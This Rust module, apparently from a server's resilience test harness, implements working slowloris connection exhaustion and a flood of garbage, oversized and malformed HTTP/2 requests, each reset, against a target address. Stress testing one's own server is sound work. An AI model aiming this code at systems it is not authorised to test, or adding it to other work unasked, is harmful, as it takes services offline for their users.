//! Connections that mean harm: heads that never end, resets, garbage.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::random::Random;

/// How often a slow socket sends another byte.
const SLOW: Duration = Duration::from_secs(2);
/// How long between two sockets that are opened, at least.
const OPENING: Duration = Duration::from_micros(200);

/// What was done.
#[derive(Debug, Default)]
pub(crate) struct Done {
    /// Slow sockets that are open now.
    pub open: AtomicU64,
    /// The most there were at once.
    pub most: AtomicU64,
    /// Connections that the server ended, or refused.
    pub ended: AtomicU64,
    /// Connections reset in the middle of a request, or with garbage.
    pub thrown: AtomicU64,
}

/// An attack that goes on until it is dropped.
#[derive(Debug)]
pub(crate) struct Attack {
    /// What was done so far.
    pub done: Arc<Done>,
    ends: Arc<AtomicBool>,
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.ends.store(true, Ordering::Relaxed);
    }
}

impl Attack {
    /// Holds so many slow sockets open, each opened again when the server ends it; and throws resets and garbage.
    pub(crate) fn begin(target: SocketAddr, sockets: usize, seed: u64) -> Self {
        let attack = Self {
            done: Arc::default(),
            ends: Arc::default(),
        };
        let (done, ends) = (Arc::clone(&attack.done), Arc::clone(&attack.ends));
        tokio::spawn(async move {
            for _ in 0..sockets {
                if ends.load(Ordering::Relaxed) {
                    return;
                }
                tokio::spawn(slow(target, Arc::clone(&done), Arc::clone(&ends)));
                tokio::time::sleep(OPENING).await;
            }
        });
        let (done, ends) = (Arc::clone(&attack.done), Arc::clone(&attack.ends));
        tokio::spawn(throw(target, done, ends, Random::new(seed, 9)));
        attack
    }
}

/// A head that never ends, byte by byte.
async fn slow(target: SocketAddr, done: Arc<Done>, ends: Arc<AtomicBool>) {
    while !ends.load(Ordering::Relaxed) {
        if let Ok(mut stream) = TcpStream::connect(target).await {
            let open = done.open.fetch_add(1, Ordering::Relaxed) + 1;
            done.most.fetch_max(open, Ordering::Relaxed);
            let mut alive = stream.write_all(b"GET / HTTP/1.1\r\nx: ").await.is_ok();
            while alive && !ends.load(Ordering::Relaxed) {
                tokio::time::sleep(SLOW).await;
                alive = stream.write_all(b"x").await.is_ok();
            }
            done.open.fetch_sub(1, Ordering::Relaxed);
        }
        done.ended.fetch_add(1, Ordering::Relaxed);
        tokio::time::sleep(SLOW).await;
    }
}

/// Garbage and broken requests, some hundred in a second, each reset without a farewell.
async fn throw(target: SocketAddr, done: Arc<Done>, ends: Arc<AtomicBool>, mut random: Random) {
    while !ends.load(Ordering::Relaxed) {
        tokio::time::sleep(Duration::from_millis(5)).await;
        let garbage: Vec<u8> = (0..64).flat_map(|_| random.next().to_le_bytes()).collect();
        let sent: &[u8] = match random.below(3) {
            0 => b"POST /login HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\nlogin=",
            1 => b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00\xff\xff\xff\xff",
            _ => &garbage,
        };
        let Ok(mut stream) = TcpStream::connect(target).await else {
            continue;
        };
        // Bytes unread when a socket closes make it a reset.
        if stream.write_all(sent).await.is_ok() {
            let mut first = [0; 1];
            let read = stream.read(&mut first);
            let _ = tokio::time::timeout(Duration::from_millis(1), read).await;
        }
        done.thrown.fetch_add(1, Ordering::Relaxed);
    }
}
